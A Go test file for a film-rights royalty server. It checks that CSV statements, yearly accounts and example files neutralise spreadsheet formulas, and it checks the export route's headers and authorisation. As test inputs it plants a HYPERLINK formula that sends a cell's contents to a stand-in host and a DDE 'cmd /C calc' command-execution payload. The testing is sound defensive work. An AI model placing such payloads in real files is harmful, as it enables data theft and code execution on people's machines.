package server_test

import (
	"encoding/csv"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/postprod/postprod/graph/server"
)

// A title a spreadsheet would run as a formula comes out of every CSV
// export as inert text, while amounts stay numbers.
func TestCSVExportsNeutraliseFormulas(t *testing.T) {
	e := newEnv(t)
	tok := e.login("coordinator@demo.test").Access
	const title = `=HYPERLINK("http://x/?"&A1,"y")`
	residual := e.id(tok, `mutation($in:RightsHolderInput!){ createRightsHolder(input:$in){ id } }`,
		map[string]any{"in": map[string]any{"name": "Productions Formule", "kind": "PRODUCER", "isCompany": true}})
	author := e.id(tok, `mutation($in:RightsHolderInput!){ createRightsHolder(input:$in){ id } }`,
		map[string]any{"in": map[string]any{"name": "@Autrice", "kind": "AUTHOR"}})
	work := e.id(tok, `mutation($in:WorkInput!){ createWork(input:$in){ id } }`,
		map[string]any{"in": map[string]any{"title": title, "kind": "FEATURE_FILM", "residualHolderId": residual}})
	e.call(tok, `mutation($w:ID!,$s:[ShareInput!]!){ setShares(workId:$w, shares:$s){ id } }`, map[string]any{"w": work, "s": []any{
		map[string]any{"holderId": author, "media": "ALL", "territory": "WORLD", "basisPoints": 2500},
	}}, &struct{}{})
	for i, amount := range []string{"1234.56", "-12.50"} { // a refund comes as a negative line
		e.id(tok, `mutation($in:RevenueLineInput!){ addRevenueLine(input:$in){ id } }`, map[string]any{"in": map[string]any{
			"workId": work, "source": "=cmd|' /C calc'!A0", "media": "TV", "territory": "FR",
			"periodStart": "2027-01-01", "periodEnd": "2027-03-31", "amount": amount, "externalReference": "-REF-" + string(rune('A'+i)),
		}})
	}
	var run struct {
		CreateDistributionRun struct {
			ID         string
			Statements []struct {
				ID, CsvURL string
				Holder     struct{ ID string }
			}
		}
	}
	e.call(tok, `mutation{ createDistributionRun(periodStart:"2027-01-01", periodEnd:"2027-03-31"){ id statements { id csvUrl holder { id } } } }`, nil, &run)
	r := run.CreateDistributionRun
	e.call(tok, `mutation($id:ID!){ approveDistributionRun(id:$id){ id } }`, map[string]any{"id": r.ID}, &struct{}{})
	e.call(tok, `mutation($id:ID!){ issueDistributionRun(id:$id){ id } }`, map[string]any{"id": r.ID}, &struct{}{})
	holders := map[string]bool{}
	for _, st := range r.Statements {
		holders[st.Holder.ID] = true
		rows := downloadCSV(t, e, tok, st.CsvURL[strings.Index(st.CsvURL, "/documents/"):])
		found := false
		for _, row := range rows[1:] {
			if strings.Contains(row[0], "HYPERLINK") {
				found = true
				if row[0] != "'"+title {
					t.Errorf("title exported as %q", row[0])
				}
			}
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !isDecimal(cell) {
					t.Errorf("a live formula in the export: %q", cell)
				}
			}
			for _, amount := range row[4:7] {
				if amount != "" && !isDecimal(amount) {
					t.Errorf("an amount exported as text: %q", amount)
				}
			}
		}
		if !found {
			t.Errorf("statement %s has no line for the work", st.ID)
		}
	}
	if !holders[residual] || !holders[author] {
		t.Fatalf("statements for %v, want the residual holder and the author", holders)
	}
	// Each holder's yearly account lists the work too, as inert text.
	for holder := range holders {
		rows := downloadCSV(t, e, tok, "/documents/holders/"+holder+"/annual/2027.csv")
		found := false
		for _, row := range rows[1:] {
			for _, cell := range row {
				if strings.Contains(cell, "HYPERLINK") {
					found = true
					if cell != "'"+title {
						t.Errorf("yearly account: title exported as %q", cell)
					}
				}
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !isDecimal(cell) {
					t.Errorf("yearly account: a live formula in the export: %q", cell)
				}
			}
		}
		if !found {
			t.Errorf("holder %s: the yearly account has no line for the work", holder)
		}
	}
	// The revenue import's example file holds no formula either.
	for _, row := range downloadCSV(t, e, tok, "/documents/examples/revenue-import.csv") {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !isDecimal(cell) {
				t.Errorf("example file: a live formula: %q", cell)
			}
		}
	}
	// Every CSV route of the registry is one of those checked above: a new
	// export must join this test.
	checked := map[string]bool{"/documents/statements/{id}.csv": true, "/documents/holders/{id}/annual/{year}.csv": true, "/documents/examples/{name}.csv": true,
		"/documents/sales-journal/{period}.csv": true} // TestSalesJournalFormulas (invoice_docs_journal_test.go)
	for _, path := range server.CSVRoutes() {
		if !checked[path] {
			t.Errorf("the CSV export %s is not checked for formulas", path)
		}
	}
	// The export's route: named attachment, never cached; a caller is needed.
	id := r.Statements[0].ID
	for _, c := range []struct {
		path, tok string
		status    int
		want      map[string]string
	}{
		{"/documents/statements/" + id + ".csv", tok, 200, map[string]string{"Content-Disposition": `attachment; filename="releve-` + id[:8] + `.csv"`, "Cache-Control": "private, no-store"}},
		{"/documents/statements/" + id + ".csv", "", 401, map[string]string{"Content-Type": "application/json"}},
		{"/documents/statements/" + id + ".xlsx", tok, 404, nil},
		{"/documents/statements/" + id, tok, 404, nil},
		{"/documents/statements/not-an-id.csv", tok, 404, nil},
	} {
		req, _ := http.NewRequest(http.MethodGet, e.API.URL+c.path, nil)
		if c.tok != "" {
			req.Header.Set("Authorization", "Bearer "+c.tok)
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != c.status {
			t.Errorf("%s: %d, want %d", c.path, resp.StatusCode, c.status)
		}
		for k, v := range c.want {
			if got := resp.Header.Get(k); got != v {
				t.Errorf("%s: %s = %q, want %q", c.path, k, got, v)
			}
		}
	}
}

// downloadCSV fetches a CSV export over HTTP as the caller and parses it.
func downloadCSV(t *testing.T, e *env, tok, path string) [][]string {
	t.Helper()
	req, _ := http.NewRequest(http.MethodGet, e.API.URL+path, nil)
	req.Header.Set("Authorization", "Bearer "+tok)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != http.StatusOK || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") {
		t.Fatalf("%s: %d %s %.200s", path, resp.StatusCode, resp.Header.Get("Content-Type"), body)
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(body), "\ufeff")))
	r.Comma = ';'
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// isDecimal reports a plain signed number with a decimal comma or point.
func isDecimal(s string) bool {
	s = strings.TrimLeft(s, "+-")
	whole, frac, _ := strings.Cut(strings.Replace(s, ",", ".", 1), ".")
	return whole != "" && strings.Trim(whole, "0123456789") == "" && strings.Trim(frac, "0123456789") == ""
}
